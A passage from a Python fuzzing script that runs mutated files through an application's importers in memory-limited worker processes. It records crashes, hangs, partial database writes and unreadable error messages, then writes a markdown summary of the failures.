            )
        )

    def codebook(self, data: bytes, filename: str) -> None:
        from research.repository_tags import import_codebook

        self.stored(lambda session: import_codebook(session, data))

    def journey(self, data: bytes, filename: str) -> None:
        from prototypes.exchange import loads
        from prototypes.repository_exchange import write_document

        doc = loads(data, 5_000_000)
        self.stored(lambda session: write_document(session, doc))

    def backup(self, data: bytes, filename: str) -> None:
        from i18n import UserError
        from storage.backup import restore
        from storage.db import connect, forget

        source = self.work.folder / f"case-{os.getpid()}{Path(filename).suffix or '.zip'}"
        source.write_bytes(data)
        target = self.work.folder / f"restored-{os.getpid()}.db"
        url = f"sqlite:///{target}"
        forget(url)
        for suffix in ("", "-wal", "-shm"):
            Path(f"{target}{suffix}").unlink(missing_ok=True)
        shutil.copy(self.work.empty, target)
        try:
            restore(connect(url), source)
        except UserError:
            forget(url)
            rows = {t: n for t, (n, _) in fingerprint(target).items() if t != "alembic_version"}
            if any(rows.values()):
                raise PartialWrite("a refused restore left rows in the database") from None
            raise
        finally:
            forget(url)


def _where(exc: BaseException) -> str:
    """The deepest frame of the project's own code (not a library's) that the error passed."""
    frames = traceback.extract_tb(exc.__traceback__)
    ours = [f for f in frames if str(ROOT) in f.filename and ".venv" not in f.filename]
    frame = (ours or frames or [None])[-1]
    if frame is None:
        return "?"
    path = Path(frame.filename)
    name = path.relative_to(ROOT) if path.is_relative_to(ROOT) else path.name
    return f"{name}:{frame.lineno} {frame.name}"


def run_one(importers: Importers, case: Case) -> Result:
    from i18n import UserError

    started = time.monotonic()
    try:
        importers.run(case.target, case.data, case.filename)
        status, detail, where = "ok", "", ""
    except PartialWrite as exc:
        status, detail, where = "partial-write", str(exc), _where(exc)
    except UserError as exc:
        status, detail, where = "user-error", "", ""
        try:
            for lang in ("bg", "en"):
                message = exc.render(lang)
                if not isinstance(message, str) or not message.strip():
                    raise ValueError(f"empty message in {lang}")
            detail = exc.render("en")[:200]
        except Exception as bad:  # a message that cannot be shown is not a clear error
            status, detail, where = "bad-message", f"{type(bad).__name__}: {bad}"[:300], _where(bad)
    except BaseException as exc:  # everything else is a crash, MemoryError and RecursionError too
        status, detail, where = "crash", f"{type(exc).__name__}: {exc}"[:300], _where(exc)
    return Result(case, status, detail, where, time.monotonic() - started)


def _address_space() -> int:
    """Bytes of virtual memory this process maps now (VmSize), 0 where /proc cannot tell."""
    with contextlib.suppress(OSError, ValueError, StopIteration):
        status = Path("/proc/self/status").read_text().splitlines()
        line = next(x for x in status if x.startswith("VmSize:"))
        return int(line.split()[1]) * 1024
    return 0


def _worker(conn, work: Workspace) -> None:
    # MEMORY_LIMIT more than the worker inherited: a fork of a large process (pytest after the
    # browser tests maps over 3 GB) under a flat 3 GB limit could not even map SQLite's WAL index,
    # and every case failed with "disk I/O error"
    limit = _address_space() + MEMORY_LIMIT
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
    with contextlib.suppress(OSError):  # on a shared machine short of memory, die first
        Path("/proc/self/oom_score_adj").write_text("1000")
    with contextlib.suppress(Exception):  # and die with the parent (PR_SET_PDEATHSIG)
        import ctypes
        import signal

        ctypes.CDLL("libc.so.6").prctl(1, signal.SIGKILL)
    import logging

    logging.disable(logging.CRITICAL)
    importers = Importers(work)
    while True:
        case = conn.recv()
        if case is None:
            return
        result = run_one(importers, case)
        result.case = None  # the parent has it; do not send the data back
        conn.send(result)


class Runner:
    """One worker process at a time; a case that outlives its timeout is a hang."""

    def __init__(self, work: Workspace, timeout: float) -> None:
        self.work = work
        self.timeout = timeout
        self.context = multiprocessing.get_context("fork")
        self.process = None
        self.conn = None

    def _start(self) -> None:
        parent, child = self.context.Pipe()
        self.process = self.context.Process(target=_worker, args=(child, self.work), daemon=True)
        self.process.start()
        child.close()
        self.conn = parent

    def run(self, case: Case) -> Result:
        """The case's result; a hang or a dead worker is tried once more in a fresh worker with
        twice the time (a busy shared machine, or the kernel's OOM killer, can fake either)."""
        result = self._run(case, self.timeout)
        if result.status in ("hang", "crash") and result.detail.startswith(("no answer", "the wo")):
            self.stop(kill=True)
            result = self._run(case, 2 * self.timeout)
        return result

    def _run(self, case: Case, timeout: float) -> Result:
        if self.process is None or not self.process.is_alive():
            self._start()
        started = time.monotonic()
        try:
            self.conn.send(case)
            if self.conn.poll(timeout):
                result = self.conn.recv()
                result.case = case
                return result
            status, detail = "hang", f"no answer within {timeout:g} s"
        except (EOFError, OSError, BrokenPipeError) as exc:
            status, detail = "crash", f"the worker died: {type(exc).__name__}"
        self.stop(kill=True)
        return Result(case, status, detail, "", time.monotonic() - started)

    def stop(self, kill: bool = False) -> None:
        if self.process is None:
            return
        if kill:
            self.process.kill()
        else:
            with contextlib.suppress(OSError):
                self.conn.send(None)
        self.process.join(10)
        if self.process.is_alive():
            self.process.kill()
            self.process.join(10)
        self.process = None


@dataclass
class Report:
    results: list[Result] = field(default_factory=list)
    seconds: float = 0.0

    @property
    def failures(self) -> list[Result]:
        return [r for r in self.results if r.status in FAILURES]

    def by_target(self) -> dict[str, collections.Counter]:
        table: dict[str, collections.Counter] = {}
        for r in self.results:
            table.setdefault(r.case.target, collections.Counter())[r.status] += 1
        return table

    def groups(self) -> list[tuple[tuple[str, str, str], list[Result]]]:
        """Failures grouped by importer, kind and place: one group is one bug, most likely."""
        found: dict[tuple[str, str, str], list[Result]] = {}
        for r in self.failures:
            kind = r.detail.split(":")[0] if r.status == "crash" else r.status
            found.setdefault((r.case.target, kind, r.where), []).append(r)
        return sorted(found.items(), key=lambda item: -len(item[1]))


def fuzz(
    work: Workspace,
    cases: int,
    *,
    seed: int = 1,
    timeout: float = 10.0,
    targets: tuple[str, ...] = TARGETS,
    time_limit: float = 3600.0,
    progress=None,
    workers: int = 1,
) -> Report:
    """Run `cases` mutated files through the importers, each in a worker with a timeout."""
    report = Report()
    runners = [Runner(work, timeout) for _ in range(workers)]
    for runner in runners:  # fork the workers before any thread runs
        runner._start()
    lock = threading.Lock()
    indexes = iter(range(cases))
    started = time.monotonic()

    def loop(runner: Runner) -> None:
        while time.monotonic() - started <= time_limit:
            with lock:
                index = next(indexes, None)
            if index is None:
                return
            try:
                case = make_case(work, index, seed, targets)
            except Exception as exc:  # a bug of the mutator: say so, keep fuzzing
                print(f"case {index}: the mutator failed: {type(exc).__name__}: {exc}", flush=True)
                continue
            result = runner.run(case)
            with lock:
                report.results.append(result)
                if progress is not None:
                    progress(result)

    threads = [threading.Thread(target=loop, args=(r,), daemon=True) for r in runners]
    try:
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    finally:
        for runner in runners:
            runner.stop()
    report.results.sort(key=lambda r: r.case.index)
    report.seconds = time.monotonic() - started
    return report


def save_failures(report: Report, folder: Path = OUT) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for (target, _kind, where), results in report.groups():
        first = results[0]
        stem = f"{target}-{first.case.index}"
        (folder / f"{stem}-{Path(first.case.filename).name}").write_bytes(first.case.data)
        (folder / f"{stem}.txt").write_text(
            f"{target} {first.case.filename} mutation={first.case.mutation}\n{first.status}: "
            f"{first.detail}\nat {where}\ncases like it: {len(results)}\n",
            encoding="utf-8",
        )


# ---- the benchmark -----------------------------------------------------------------------------


def summary_markdown(report: Report, args: argparse.Namespace) -> str:
    lines = [
        f"{len(report.results):,} mutated files (seed {args.seed}, {args.timeout:g} s per case, "
        f"{MEMORY_LIMIT // 1024**3} GB memory limit) through every importer, as the app calls "
        f"them, in {report.seconds:.0f} s. A case passes when it imports or raises a UserError "
        "that renders in both languages, and a refused import leaves the database unchanged.",
        "",
        "| importer | cases | imported | refused (UserError) | crash | hang | partial write | "
        "bad message | mean | slowest |",
        "|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|",
    ]
    slowest: dict[str, float] = {}
    total: dict[str, float] = collections.Counter()
    for r in report.results:
        slowest[r.case.target] = max(slowest.get(r.case.target, 0.0), r.seconds)
        total[r.case.target] += r.seconds
    for target, counts in report.by_target().items():
        lines.append(
            f"| {target} | {sum(counts.values()):,} | {counts['ok']:,} | {counts['user-error']:,} "
            f"| {counts['crash']} | {counts['hang']} | {counts['partial-write']} | "
            f"{counts['bad-message']} | {1000 * total[target] / sum(counts.values()):.0f} ms | "
            f"{slowest[target]:.1f} s |"
        )
    mutations = collections.Counter(
        m.split("_")[0] if not m.startswith("zip") else "_".join(m.split("_")[:2])
        for r in report.results
        for m in r.case.mutation.split("+")
    )
    lines += [
        "",
        "Mutations applied (a case may stack up to three): "
        + ", ".join(f"{name} {n:,}" for name, n in mutations.most_common()),
        "",
    ]
    groups = report.groups()
    if groups:
        lines += [
            f"**{len(report.failures)} cases failed**, in {len(groups)} places "
            "(inputs in benchmarks/out/fuzz-failures/):",
            "",
            "| importer | failure | where | cases | example mutation |",
            "|---|---|---|---:|---|",
        ]
        for (target, _kind, where), results in groups[:40]:
            detail = results[0].detail.replace("|", "\\|").replace("\n", " ")[:120]
            lines.append(
                f"| {target} | {detail} | `{where}` | {len(results)} | {results[0].case.mutation} |"
            )
    else:
        lines.append("**No case crashed, hung, wrote partially or gave an unreadable message.**")
    lines += ["", "The machine is shared with other engineers' work: times are noisy."]
    return "\n".join(lines)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--cases", type=int, default=12_000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--timeout", type=float, default=10.0, help="seconds per case")
    parser.add_argument("--targets", default=",".join(TARGETS))
    parser.add_argument("--time-limit", type=float, default=3 * 3600.0)
    parser.add_argument("--workers", type=int, default=1, help="worker processes in parallel")
    parser.add_argument("--no-write", action="store_true")
    args = parser.parse_args()
    targets = tuple(t for t in args.targets.split(",") if t)
    unknown = set(targets) - set(TARGETS)
    if unknown:
        raise SystemExit(f"unknown targets: {', '.join(sorted(unknown))}")
    with tempfile.TemporaryDirectory(prefix="opit-fuzz-") as folder:
        work = build_workspace(Path(folder))
        print("seeds: " + ", ".join(f"{t} {len(s)}" for t, s in work.seeds.items()), flush=True)
        done = collections.Counter()

        def progress(result: Result) -> None:
            done[result.status] += 1
            n = sum(done.values())
            if result.status in FAILURES:
                print(
                    f"#{result.case.index} {result.case.target} {result.status} "
                    f"{result.detail[:100]} at {result.where} ({result.case.mutation})",
                    flush=True,
                )
            if n % 500 == 0:
                print(f"{n} cases: {dict(done)}", flush=True)

        report = fuzz(
            work, args.cases, seed=args.seed, timeout=args.timeout, targets=targets,
            time_limit=args.time_limit, progress=progress, workers=args.workers,
        )  # fmt: skip
    save_failures(report)
    text = summary_markdown(report, args)
    print(text)
    if not args.no_write:
        write_section(
            "fuzz",
            "Fuzz: hostile files through every importer",
            f"python benchmarks/fuzz_importers.py --cases {args.cases} --seed {args.seed}"
            + (f" --workers {args.workers}" if args.workers > 1 else ""),
            text,
        )
    return 1 if report.failures else 0


if __name__ == "__main__":
    raise SystemExit(main())
